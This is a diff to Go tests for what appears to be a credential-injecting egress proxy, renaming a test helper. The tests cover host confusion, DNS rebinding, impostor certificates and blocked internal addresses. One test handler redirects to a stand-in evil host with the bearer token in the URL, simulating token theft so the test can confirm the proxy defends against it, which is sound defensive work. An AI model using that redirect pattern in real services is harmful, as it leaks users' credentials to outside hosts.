@@ -13,8 +13,8 @@ import (
 
 // confusionRig has the pinned host, another tenant of the same provider's
 // domain, and a foreign host, all of which record what arrives.
-func confusionRig(t *testing.T) *rig {
-	r := newRig(t)
+func confusionRig(t *testing.T) *egressRig {
+	r := newEgressRig(t)
 	for _, host := range []string{apiHost, secondHost, tenantHost, evilHost} {
 		r.serve(host, echoing())
 	}
@@ -89,7 +89,7 @@ func TestHostConfusion(t *testing.T) {
 // A redirect is the child's to follow, and its placeholder is worth nothing
 // elsewhere.
 func TestRedirectIsPassedOn(t *testing.T) {
-	r := newRig(t)
+	r := newEgressRig(t)
 	r.serve(apiHost, http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
 		http.Redirect(w, req, "https://"+evilHost+"/stolen?was="+strings.TrimPrefix(req.Header.Get("Authorization"), "Bearer "), http.StatusTemporaryRedirect)
 	}))
@@ -120,7 +120,7 @@ func TestAddressesThatGetNoToken(t *testing.T) {
 		{"192.0.0.192", false}, {"198.18.0.1", false}, {"64:ff9b::a9fe:a9fe", false}, {"2002:7f00:1::", false}, {"fec0::1", false},
 		{"203.0.113.7", true}, {"64:ff9b::cb00:7107", true}, {"2600::1", true},
 	} {
-		r := newRig(t)
+		r := newEgressRig(t)
 		r.serve(apiHost, echoing())
 		address := netip.MustParseAddr(tt.address)
 		real := r.places[r.names[apiHost][0].String()+":443"]
@@ -143,7 +143,7 @@ func TestAddressesThatGetNoToken(t *testing.T) {
 // What was looked at is what is dialled: a second answer of the resolver has no
 // say.
 func TestRebinding(t *testing.T) {
-	r := newRig(t)
+	r := newEgressRig(t)
 	r.serve(apiHost, echoing())
 	asked := 0
 	first := r.options.Resolve
@@ -163,7 +163,7 @@ func TestRebinding(t *testing.T) {
 // The certificate decides who an address is: a machine that only answers there
 // gets nothing.
 func TestImpostorGetsNothing(t *testing.T) {
-	r := newRig(t)
+	r := newEgressRig(t)
 	impostor := r.serve(evilHost, echoing())
 	r.place(apiHost, "443", impostor.Listener.Addr().String())
 	r.start()
@@ -208,7 +208,7 @@ func TestMisplacedPlaceholders(t *testing.T) {
 		{"another connection's, in the body", "/", other, []string{auth}, "it is for other hosts"},
 	} {
 		for _, h2 := range []bool{false, true} {
-			r := newRig(t)
+			r := newEgressRig(t)
 			r.options.Targets = append(r.options.Targets, Target{Connection: "other", Hosts: []string{evilHost}, Auth: bearer(), Placeholder: secret.New(other)})
 			r.serve(apiHost, echoing())
 			r.start()
